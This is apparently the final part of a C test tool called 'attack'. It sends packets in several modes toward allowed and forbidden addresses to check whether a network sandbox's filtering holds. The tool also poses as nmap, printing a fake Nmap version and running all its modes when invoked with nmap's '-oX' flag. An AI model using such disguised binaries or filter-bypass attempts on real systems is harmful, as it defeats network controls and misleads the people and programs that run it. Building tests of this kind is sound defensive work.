static void parse(addr *into, const char *text) {
	int f = strchr(text, ':') ? AF_INET6 : AF_INET;
	if (family && f != family || inet_pton(f, text, into) != 1) {
		fprintf(stderr, "attack: not an address of the run's family: %s\n", text);
		exit(1);
	}
	family = f;
}

// learn finds the hardware addresses of both ends. The gateway's is that of any neighbour of
// the interface: there is one, and its address is returned.
static const char *learn(void) {
	struct ifreq r = {0};
	strncpy(r.ifr_name, device, IFNAMSIZ - 1);
	if (!(iface = if_nametoindex(device)) || ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCGIFHWADDR, &r) < 0)
		fault(device);
	memcpy(mac, r.ifr_hwaddr.sa_data, 6);
	FILE *f = fopen("/proc/net/arp", "r");
	char line[256], on[32];
	static char at[64];
	unsigned flags, m[6];
	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%63s %*s %x %x:%x:%x:%x:%x:%x %*s %31s", at, &flags, m, m + 1, m + 2, m + 3, m + 4, m + 5, on) == 9 && flags & 2 && !strcmp(on, device)) {
			for (int i = 0; i < 6; i++)
				gateway_mac[i] = m[i];
			return at;
		}
	fprintf(stderr, "attack: no neighbour on %s\n", device);
	exit(1);
}

// run tries a mode and prints what came of it.
static int run(const struct mode *m, const char *prefix) {
	int sent = 0, refused = 0;
	for (int n = 0; n < TRIES; n++) {
		if (m->send() < 0)
			refused = errno;
		else
			sent++;
		for (int fd = 3; fd < 64; fd++) // a box knows no close_range
			close(fd);
	}
	printf("%ssent %d of %d%s%s\n", prefix, sent, TRIES, refused ? ", " : "", refused ? strerrorname_np(refused) : "");
	return sent ? 0 : 3;
}

static int in_nmaps_place(int argc, char **argv) {
	for (int i = 1; i < argc; i++)
		inet_pton(AF_INET, argv[i], &allowed);
	struct ifreq r = {0};
	strncpy(r.ifr_name, device, IFNAMSIZ - 1);
	if (ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCGIFADDR, &r) < 0)
		fault(device);
	memcpy(&src, &((struct sockaddr_in *)&r.ifr_addr)->sin_addr, 4);
	parse(&gateway, learn());
	parse(&forbidden, "10.99.0.5");
	parse(&host, "10.99.0.1");
	for (int i = 0; i < MODES; i++) {
		char prefix[32];
		snprintf(prefix, sizeof prefix, "%s ", modes[i].name);
		if (modes[i].families & FOUR)
			run(&modes[i], prefix);
		fflush(stdout); // all that was tried is told if the next is the last
	}
	return 0;
}

int main(int argc, char **argv) {
	if (argc == 2 && !strcmp(argv[1], "list")) {
		for (int i = 0; i < MODES; i++)
			printf("%s%s%s\n", modes[i].name, modes[i].families & FOUR ? " 4" : "", modes[i].families & SIX ? " 6" : "");
		return 0;
	}
	for (int i = 1; i < argc; i++)
		if (!strcmp(argv[i], "-V") || !strcmp(argv[i], "--version"))
			return puts("Nmap version 7.93 ( https://nmap.org )"), 0;
		else if (!strcmp(argv[i], "-oX"))
			return in_nmaps_place(argc, argv);
	struct { const char *name; addr *into; } options[] = {{"--src", &src}, {"--gateway", &gateway}, {"--host", &host}, {"--allowed", &allowed}, {"--forbidden", &forbidden}};
	for (int i = 2; i + 1 < argc; i += 2) {
		int found = !strcmp(argv[i], "--iface");
		if (found)
			device = argv[i + 1];
		for (int o = 0; o < 5; o++)
			if (!strcmp(argv[i], options[o].name))
				parse(options[o].into, argv[i + 1]), found = 1;
		if (!found) {
			fprintf(stderr, "attack: no option %s\n", argv[i]);
			return 1;
		}
	}
	for (int i = 0; i < MODES && argc > 2; i++) {
		if (strcmp(argv[1], modes[i].name) || !(modes[i].families & (six() ? SIX : FOUR)))
			continue;
		learn();
		return run(&modes[i], "");
	}
	fprintf(stderr, "usage: attack list | attack MODE --iface NAME --src A --gateway A --host A --allowed A --forbidden A\n");
	return 1;
}
